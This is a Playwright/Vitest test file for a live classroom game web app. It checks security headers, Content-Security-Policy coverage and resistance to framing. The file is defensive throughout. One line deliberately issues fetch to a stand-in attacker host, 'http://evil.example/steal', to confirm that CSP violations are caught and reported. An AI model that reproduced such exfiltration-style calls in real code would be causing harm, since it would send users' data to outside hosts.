import type { BrowserContext, Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { browserSkipReason } from "../helpers/browser";
import { useBrowser, useTestServer } from "../helpers/fixtures";
import { rawRequest } from "../security/raw-http";

const EXPECTED = {
  "x-frame-options": "DENY",
  "x-content-type-options": "nosniff",
  "referrer-policy": "same-origin",
  "cross-origin-opener-policy": "same-origin",
};

/** Every response must carry the protections, whoever answers it: the API, a Next page, a static file, a 404. */
function expectProtected(headers: Record<string, string | string[] | undefined>, what: string) {
  for (const [name, value] of Object.entries(EXPECTED)) expect(headers[name], `${what}: ${name}`).toBe(value);
  const csp = String(headers["content-security-policy"] ?? "");
  expect(csp, what).toContain("default-src 'self'");
  expect(csp, what).toContain("frame-ancestors 'none'");
  expect(csp, what).toContain("object-src 'none'");
  expect(csp, what).toContain("base-uri 'none'");
  expect(csp, what).not.toContain("unsafe-eval"); // production build: no eval anywhere
  expect(headers["permissions-policy"], what).toContain("camera=()");
}

type Watched = { page: Page; context: BrowserContext; problems: () => Promise<string[]> };

describe.skipIf(!!browserSkipReason)("browser-side protections", () => {
  const server = useTestServer({ pages: true });
  const browser = useBrowser();

  /** A page that records CSP violations (the DOM event, so none hides behind a console filter) and console errors. */
  async function watchedPage(viewport = { width: 1440, height: 900 }): Promise<Watched> {
    const context = await browser.browser.newContext({ viewport });
    await context.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { __violations: string[] }).__violations = seen;
      document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.violatedDirective} blocked ${e.blockedURI} at ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`));
    });
    const page = await context.newPage();
    const errors: string[] = [];
    page.on("console", (msg) => msg.type() === "error" && errors.push(msg.text()));
    page.on("pageerror", (err) => errors.push(err.message));
    const problems = async () => {
      const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
      return [...violations.map((v) => `CSP: ${v}`), ...errors];
    };
    return { page, context, problems };
  }

  it("sends the headers on API, page, static, 404 and Socket.IO responses", async () => {
    expectProtected((await rawRequest(`${server.url}/api/health`, {})).headers, "API");
    expectProtected((await rawRequest(`${server.url}/api/nothing-here`, {})).headers, "API 404");
    const home = await rawRequest(`${server.url}/`, {});
    expectProtected(home.headers, "page");
    const script = /src="(\/_next\/static\/[^"]+\.js)"/.exec(home.body)?.[1];
    expect(script).toBeDefined();
    expectProtected((await rawRequest(`${server.url}${script}`, {})).headers, "static file");
    expectProtected((await rawRequest(`${server.url}/no/such/page`, {})).headers, "page 404");
    const polling = await rawRequest(`${server.url}/socket.io/?EIO=4&transport=polling`, {});
    expect(polling.status).toBe(200);
    expect(polling.headers["x-content-type-options"]).toBe("nosniff");
    expect(polling.headers["x-frame-options"]).toBe("DENY");
  });

  it("runs the landing page, console, phone and replay under the CSP with no violation and no console error", async () => {
    // Landing page → create a session (a JSON POST from the page) → the console.
    const host = await watchedPage();
    const landing = await host.page.goto(`${server.url}/`);
    expectProtected(landing!.headers(), "landing page in Chromium");
    // Classification: its decision map is a canvas turned into a data: image (img-src).
    await host.page.getByText("Classification", { exact: true }).click();
    await host.page.getByRole("button", { name: "Create session" }).click();
    await host.page.waitForURL(/\/host\/[^/]+$/);
    const sessionId = new URL(host.page.url()).pathname.split("/").at(-1)!;
    await host.page.getByRole("status").filter({ hasText: "Connected" }).waitFor();
    const joinCode = await host.page.evaluate(
      () => (JSON.parse(window.localStorage.getItem("backprop-live:host-sessions") ?? "[]") as { joinCode: string }[])[0].joinCode,
    );

    // A phone joins over the socket.
    const phone = await watchedPage({ width: 390, height: 844 });
    await phone.page.goto(`${server.url}/play/${joinCode}`);
    await phone.page.getByLabel("Your nickname").fill("Ada");
    await phone.page.getByRole("button", { name: "Join the game" }).click();
    await phone.page.getByRole("heading", { name: "You're in, Ada!" }).waitFor();

    // The console runs commands and draws its pictures (inline styles, SVG, canvas → data: image).
    await host.page.getByTestId("players-list").getByRole("listitem").first().waitFor();
    await host.page.getByRole("button", { name: "Lock joining" }).click();
    await host.page.getByRole("button", { name: "Unlock joining" }).waitFor();
    await host.page.getByRole("button", { name: /Join code/ }).click();
    await host.page.getByTestId("model-picture").getByRole("img", { name: /Decision map/ }).waitFor();
    await host.page.getByLabel("α from").selectOption("engine");
    await host.page.getByRole("button", { name: "Take one step" }).click();
    await host.page.getByRole("status").filter({ hasText: /Stepped with α/ }).waitFor();
    await host.page.getByRole("button", { name: "End session" }).click();
    await host.page.getByRole("dialog").getByRole("button", { name: "End session" }).click();
    await host.page.getByRole("heading", { name: "This session has ended" }).waitFor();
    await phone.page.getByRole("heading", { name: "Thanks for playing, Ada!" }).waitFor();

    // The replay folds the log and plays it.
    const replay = await watchedPage();
    await replay.page.goto(`${server.url}/replay/${sessionId}`);
    await replay.page.locator("[data-replay-ready]").waitFor();
    await replay.page.keyboard.press("End");
    await replay.page.keyboard.press("Home");
    await replay.page.keyboard.press("Space");
    await replay.page.getByRole("button", { name: "Pause" }).waitFor();

    for (const [name, watched] of Object.entries({ host, phone, replay })) expect(await watched.problems(), name).toEqual([]);

    // The listener does see violations: a request to another origin is blocked by connect-src and reported.
    await replay.page.evaluate(() => fetch("http://evil.example/steal").catch(() => undefined));
    await expect.poll(async () => (await replay.problems()).join("\n")).toMatch(/CSP: connect-src blocked http:\/\/evil\.example/);

    for (const watched of [host, phone, replay]) await watched.context.close();
  });

  it("cannot be framed by another page", async () => {
    const framer = await watchedPage();
    // A data: page is another origin; frame-ancestors 'none' (and X-Frame-Options) must keep the console out.
    await framer.page.setContent(`<iframe id="f" src="${server.url}/" width="800" height="600"></iframe>`);
    await framer.page.waitForTimeout(1500);
    const frame = framer.page.frames().find((f) => f !== framer.page.mainFrame());
    const framedText = frame ? await frame.evaluate(() => document.body?.innerText ?? "").catch(() => "") : "";
    expect(framedText).not.toContain("Create session");
    await framer.context.close();
  });
});
